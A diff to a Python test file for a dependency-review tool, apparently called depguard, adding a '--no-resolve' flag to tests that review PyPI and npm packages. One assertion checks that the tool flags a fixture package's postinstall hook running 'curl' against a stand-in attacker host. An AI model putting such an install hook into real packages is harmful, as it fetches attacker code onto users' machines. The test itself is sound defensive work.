@@ -18,7 +18,7 @@ ARCHIVED = (Path(__file__).parents[1] / "fixtures/pypi/simple/pil.archived.json"
 
 
 def test_card_shows_the_evidence(depguard, workdir: Path) -> None:
-    result = depguard("review", "requests")
+    result = depguard("review", "--no-resolve", "requests")
     assert result.code == 0, result.out + result.err
     out = result.out
     assert out.startswith("requests 2.34.2 (PyPI)  ALLOW  risk 0")
@@ -173,7 +173,9 @@ def test_npm_arguments() -> None:
 
 
 def test_npm_cards_through_the_same_pipeline(depguard, workdir: Path) -> None:
-    result = depguard("review", "--ecosystem", "npm", "left-pad", "evil-postinstall@1.0.0")
+    result = depguard(
+        "review", "--no-resolve", "--ecosystem", "npm", "left-pad", "evil-postinstall@1.0.0"
+    )
     assert result.code == 0  # a warning does not fail at the default --fail-on block
     assert result.out.startswith("left-pad 1.3.0 (npm)  ALLOW")
     assert "install scripts  postinstall: curl -s http://attacker.invalid/x" in result.out
